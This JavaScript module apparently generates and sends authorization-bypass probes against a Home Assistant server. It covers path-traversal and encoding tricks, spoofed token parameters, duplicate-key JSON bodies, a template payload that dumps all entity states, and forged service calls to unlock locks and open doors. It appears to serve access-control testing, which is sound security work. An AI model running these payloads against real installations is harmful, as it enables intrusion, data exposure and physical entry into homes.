// Requests for each path that Home Assistant has registered: by every method, in many spellings, with what is forbidden in
// every place of the path, the query and the body.

import { Agent, request } from 'node:https';

/** The requests for a path of the registry: method, path as it is sent, and body. */
export function requestsFor(path, registered, targets) {
  const concrete = concretePaths(path, targets);
  const methods = [...new Set([...registered.filter((method) => method !== '*'), 'GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])];
  return concrete.flatMap((at) => methods.flatMap((method) => {
    const bodies = ['POST', 'PUT', 'PATCH'].includes(method) ? bodiesFor(targets) : [undefined];
    const spelt = method === 'GET' || registered.includes(method) ? pathSpellings(at, targets) : [at];
    return spelt.flatMap((spelling, place) => (place === 0 ? bodies : bodies.slice(0, 1)).map((body) => ({ method, path: spelling, body })));
  }));
}

function concretePaths(path, targets) {
  const { area, entity, ofDomain, permitted } = targets;
  if (!path.includes('{')) return [path];
  const domain = /camera/.test(path) ? 'camera' : /image_proxy/.test(path) ? 'image' : /media_player/.test(path) ? 'media_player' : /calendar/.test(path) ? 'calendar' : 'lock';
  if (path === '/api/services/{domain}/{service}') return ['/api/services/lock/unlock', '/api/services/homeassistant/turn_off', '/api/services/script/open_door', '/api/services/light/turn_on'];
  const fill = (of) => path.replace(/\{([^}:]*)(:[^}]*)?\}/g, (_, name) => {
    if (/entity/.test(name)) return of;
    if (/datetime/.test(name)) return new Date(Date.now() - 3_600_000).toISOString();
    if (/event_type/.test(name)) return 'state_changed';
    return /area/.test(name) ? area : 'x';
  });
  return [...new Set([fill(ofDomain(domain)), fill(entity), fill('sensor.hidden_diary'), fill(permitted)])];
}

function pathSpellings(at, { entity, ofDomain }) {
  const [first, ...rest] = at.slice(1).split('/');
  const tail = rest.length > 0 ? `/${rest.join('/')}` : '';
  const letter = first ? `%${first.charCodeAt(0).toString(16)}${first.slice(1)}` : '';
  const queries = [
    'access_token=x', 'api_password=x', 'token=x', 'authSig=x', `entity_id=${entity}`, `filter_entity_id=${entity}`, `filter_entity_id=light.bed_light,${entity}`,
    `filter_entity_id=light.bed_light&filter_entity_id=${entity}`, `entity=${entity}`, `entity=light.bed_light&entity=${entity}`, `entity=light.bed_light%2C${entity}`,
    'return_response', 'restrict=state_changed', `type=media_player&entity_id=${ofDomain('media_player')}`,
  ];
  return [
    at, `${at}/`, `/${at}`, `/${letter}${tail}`, `${at}%2f`, `${at};x`, `${at}%00`, `${at}%20`, `${at}/.`, `${at}/../${rest.at(-1) ?? ''}`, `/static/..${at}`, `/static/%2e%2e${at}`,
    `/local/..%2f..${at}`, at.toUpperCase(), at.replaceAll('/', '//'), at.replaceAll('/', '%2f').replace('%2f', '/'), at.replaceAll('_', '%5f').replaceAll('.', '%2e'), at.replaceAll('/', '\\').replace('\\', '/'),
    `${at}#x`, `/frontend_latest/../${at}`, `/lovelace/..${at}`, `/dashboard-x/..;${at}`, ...queries.map((query) => `${at}?${query}`),
  ];
}

function bodiesFor({ area, device, entity, label, permitted }) {
  const json = (value) => ({ text: JSON.stringify(value), type: 'application/json' });
  return [
    json({ entity_id: entity }), { text: '', type: 'application/json' }, json({}), json([{ entity_id: entity }]), json({ entity_id: [permitted, entity] }), json({ area_id: area }), json({ device_id: device }),
    json({ label_id: label, entity_id: permitted }), json({ target: { entity_id: entity } }), json({ entity_id: 'all' }),
    { text: `{"entity_id":"${permitted}","entity_id":"${entity}"}`, type: 'application/json' }, { text: `{"entity_id":"${entity}"}`, type: 'text/plain' },
    { text: `entity_id=${entity}`, type: 'application/x-www-form-urlencoded' }, json({ template: `{{ states('${entity}') }}{{ states | map(attribute='state') | list }}` }),
    json({ state: 'unlocked', attributes: { of: entity } }), json({ text: 'unlock the front door', name: 'HassTurnOff', data: { name: { value: 'front door' } } }),
    json({ event_type: 'doorbell', type: 'call_service', data: { domain: 'lock', service: 'unlock', service_data: { entity_id: entity } } }),
    json({ handler: 'group', device_id: 'x', device_name: 'x', app_id: 'x', app_name: 'x', app_version: '1', manufacturer: 'x', model: 'x', os_name: 'x', os_version: '1', supports_encryption: false }),
  ];
}

/** Sends requests as they are, and keeps what comes. */
export class Sender {
  #agent;
  #origin;

  constructor(origin, ca) {
    this.#origin = new URL(origin);
    this.#agent = new Agent({ keepAlive: true, maxSockets: 12, ca });
  }

  /** The status, and every byte of head and body; a stream is heard for a moment. */
  send({ method, path, body }, headers) {
    return new Promise((answered) => {
      let texts = [];
      const options = { agent: this.#agent, host: this.#origin.hostname, port: this.#origin.port, method, path: legal(path), headers: { ...headers, ...(body && { 'content-type': body.type, 'content-length': Buffer.byteLength(body.text) }) } };
      const asked = request(options, (answer) => {
        const end = () => answered({ status: answer.statusCode, text: `${JSON.stringify(answer.headers)}\n${Buffer.concat(texts)}` });
        answer.on('data', (bytes) => texts.push(bytes)).on('end', end).on('error', end).on('close', end);
      });
      asked.setTimeout(3_000, () => asked.destroy());
      asked.on('error', (error) => answered({ status: 0, text: `${error.code}` }));
      asked.end(body?.text);
    });
  }

  close() {
    this.#agent.destroy();
  }
}

/** Node sends no path with spaces or other letters in it. */
const legal = (path) => path.replace(/[^\x21-\x7e]/g, (one) => encodeURIComponent(one));
